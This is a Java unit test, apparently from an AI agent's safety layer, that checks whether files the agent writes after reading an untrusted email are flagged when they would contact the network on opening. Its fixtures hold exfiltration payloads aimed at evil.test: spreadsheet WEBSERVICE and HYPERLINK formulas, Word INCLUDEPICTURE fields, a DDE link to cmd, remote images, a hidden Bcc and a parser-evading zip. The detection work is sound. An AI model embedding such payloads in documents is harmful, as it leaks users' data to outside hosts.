package dev.workroom.app;

import static org.assertj.core.api.Assertions.assertThat;

import dev.workroom.core.event.Budget;
import dev.workroom.core.event.Event.ModelReplied;
import dev.workroom.core.event.Event.SessionStarted;
import dev.workroom.core.event.Event.ToolFinished;
import dev.workroom.core.event.Event.UserSaid;
import dev.workroom.core.event.Setup;
import dev.workroom.core.event.Setup.Folder;
import dev.workroom.core.event.Setup.Mode;
import dev.workroom.core.message.CallId;
import dev.workroom.core.message.ContentBlock.Text;
import dev.workroom.core.message.ContentBlock.ToolUse;
import dev.workroom.core.message.Json;
import dev.workroom.core.message.Label;
import dev.workroom.core.message.Message;
import dev.workroom.core.message.SessionId;
import dev.workroom.core.message.ToolResult;
import dev.workroom.core.message.Usage;
import dev.workroom.core.session.Session;
import dev.workroom.core.tool.Operation;
import dev.workroom.store.SqliteStore;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a command makes of a stranger's words must not reach out when somebody opens it. */
class WrittenContentTest {
  @TempDir Path folder;
  private final List<Operation> operations = new ArrayList<>();

  private void writes(String name, byte[] content) throws IOException {
    Path staged = folder.resolve("staged" + operations.size());
    Files.write(staged, content);
    operations.add(new Operation.Write(folder.resolve(name), staged, Optional.empty()));
  }

  private void writes(String name, String content) throws IOException {
    writes(name, content.getBytes(StandardCharsets.UTF_8));
  }

  private static byte[] packed(String part, String content) throws IOException {
    var out = new ByteArrayOutputStream();
    try (var zip = new ZipOutputStream(out)) {
      zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
      zip.write("<Types/>".getBytes(StandardCharsets.UTF_8));
      zip.putNextEntry(new ZipEntry(part));
      zip.write(content.getBytes(StandardCharsets.UTF_8));
    }
    return out.toByteArray();
  }

  /**
   * Stored with a data descriptor: read by directory it is sound, read from its front it is not.
   */
  private static byte[] sidelong() throws IOException {
    byte[] content =
        "<w:fldSimple w:instr=\"INCLUDEPICTURE &quot;x&quot;\"/>".getBytes(StandardCharsets.UTF_8);
    var out = new ByteArrayOutputStream();
    try (var made = new ZipOutputStream(out)) {
      var entry = new ZipEntry("word/document.xml");
      entry.setMethod(ZipEntry.STORED);
      entry.setSize(content.length);
      var crc = new CRC32();
      crc.update(content);
      entry.setCrc(crc.getValue());
      made.putNextEntry(entry);
      made.write(content);
    }
    byte[] bytes = out.toByteArray();
    bytes[6] |= 8; // says that its sizes follow, which streams refuse for what is stored
    return bytes;
  }

  private Map<String, String> waiting() throws Exception {
    try (var store = SqliteStore.open(folder.resolve("store"))) {
      var session = new Session(new SessionId("s"), store);
      var call = new CallId("c1");
      session.append(
          "ada",
          new SessionStarted(
              "main",
              Optional.empty(),
              new Setup(
                  List.of(new Folder(folder.toString(), true)),
                  Mode.AUTO,
                  Budget.DEFAULT,
                  "script:x",
                  Optional.empty(),
                  "none")),
          new UserSaid(List.of(new Text("Make a report of the offer."))));
      session.append(
          "main",
          new ModelReplied(
              session.state().seq(),
              new Message.Assistant(
                  List.of(new ToolUse(call, "Read", new Json("{\"path\":\"offer.eml\"}"))),
                  Message.StopReason.TOOL_USE),
              Usage.NONE),
          new ToolFinished(
              call,
              new ToolResult.Ok("1\tThe total is 42; see https://iso.org/1."),
              List.of(new Label(Label.Origin.UNKNOWN, "offer.eml"))));
      return WrittenContent.reasons(session, operations);
    }
  }

  @Test
  void whatWouldReachOutWaitsHoweverItIsPacked() throws Exception {
    String field = "<w:r><w:instrText>%s</w:instrText></w:r>";
    Map<String, byte[]> office =
        Map.ofEntries(
            Map.entry("altchunk.docx", packed("word/chunk.htm", "<img src=//evil.test/42>")),
            Map.entry(
                "simple.docx",
                packed(
                    "word/document.xml",
                    "<w:fldSimple w:instr=\" INCLUDEPICTURE &quot;https:x&quot; \"/>")),
            Map.entry(
                "cut.docx",
                packed(
                    "word/document.xml",
                    field.formatted("INCLUDE") + field.formatted("TEXT \"//evil.test/42\""))),
            Map.entry("merge.docx", packed("word/settings.xml", "<w:mailMerge><w:query/>")),
            Map.entry(
                "template.docx",
                packed(
                    "word/_rels/settings.xml.rels",
                    "<Relationship Type=\"x/attachedTemplate\" Target=\"t\" TargetMode=\"External\"/>")),
            Map.entry(
                "name.xlsx",
                packed("xl/workbook.xml", "<definedName name=\"a\">WEBSERVICE(A1)</definedName>")),
            Map.entry(
                "rule.xlsx",
                packed("xl/worksheets/sheet1.xml", "<x14:f><xm:f>IMAGE(A1)</xm:f></x14:f>")),
            Map.entry(
                "check.xlsx",
                packed("xl/worksheets/sheet1.xml", "<formula1>WEBSERVICE(A1)</formula1>")),
            Map.entry(
                "dde.xlsx",
                packed("xl/externalLinks/externalLink1.xml", "<ddeLink ddeService=\"cmd\"/>")),
            Map.entry("query.xlsx", packed("xl/connections.xml", "<webPr url=\"x\"/>")),
            Map.entry(
                "wide.xlsx",
                packed(
                    "xl/worksheets/sheet1.xml", "<f>HYPERLINK(\"https://evil.test/\"&amp;A1)</f>")),
            Map.entry(
                "remote.odt", packed("content.xml", "<draw:image xlink:href=\"//evil.test/42\"/>")),
            Map.entry(
                "link.odt",
                packed("content.xml", "<text:a xlink:href=\"https://evil.test/42\">x</text:a>")),
            Map.entry(
                "macro.odp",
                packed(
                    "content.xml",
                    "<script:event-listener xlink:href=\"vnd.sun.star.script:x.y\"/>")),
            Map.entry(
                "web.ods",
                packed(
                    "content.xml", "<table:table-cell table:formula=\"of:=WEBSERVICE([.A1])\"/>")),
            Map.entry("book.epub", packed("OPS/a.xhtml", "<img src=\"//evil.test/42\"/>")));
    for (var one : office.entrySet()) {
      writes(one.getKey(), one.getValue());
    }
    writes("sidelong.docx", sidelong());
    writes("broken.xlsx", "PK\u0003\u0004 and nothing more");
    writes("really.doc", "<html><img src=//evil.test/42></html>");
    writes("quiet.svg", "<image href='//evil.test/42'/>".getBytes(StandardCharsets.UTF_16LE));
    writes("draft.eml", "To: b@example.org\nBcc: x@evil.test\n\nDear all");
    writes(
        "places.kml", "<NetworkLink><Link><href>https://evil.test/42</href></Link></NetworkLink>");
    writes("list.m3u", "https://evil.test/42.mp3\n");

    Map<String, String> waiting = waiting();

    assertThat(operations)
        .allSatisfy(
            one -> assertThat(waiting).containsKey(((Operation.Write) one).path().toString()));
  }

  @Test
  void ordinaryFilesGoTheirWay() throws Exception {
    writes("a.docx", packed("word/document.xml", "<w:fldSimple w:instr=\" PAGE \"/>"));
    writes(
        "b.docx",
        packed(
            "word/_rels/document.xml.rels",
            "<Relationship Type=\"x/hyperlink\" Target=\"https://iso.org/1\" TargetMode=\"External\"/>"));
    writes("c.xlsx", packed("xl/worksheets/sheet1.xml", "<f>SUM(A1:A3)</f><f>Other!B2*2</f>"));
    writes(
        "d.odt",
        packed(
            "content.xml",
            "<office:document-content xmlns:office=\"urn:oasis:names\"><draw:image xlink:href=\"Pictures/1.png\"/>"
                + "<text:a xlink:href=\"https://iso.org/1\">x</text:a></office:document-content>"));
    writes("e.ods", packed("content.xml", "<x table:formula=\"of:=SUM([.A1:.A3])\"/>"));
    writes("f.html", "<img src=chart.png srcset='a.png 1x, b.png 2x'><a href=b.html>next</a>");
    writes("g.eml", "To: b@example.org\nSubject: The total\n\nThe total is 42.");
    writes("h.csv", "region,total\nNorth,42\n-,-5\n");

    assertThat(waiting()).isEmpty();
  }
}
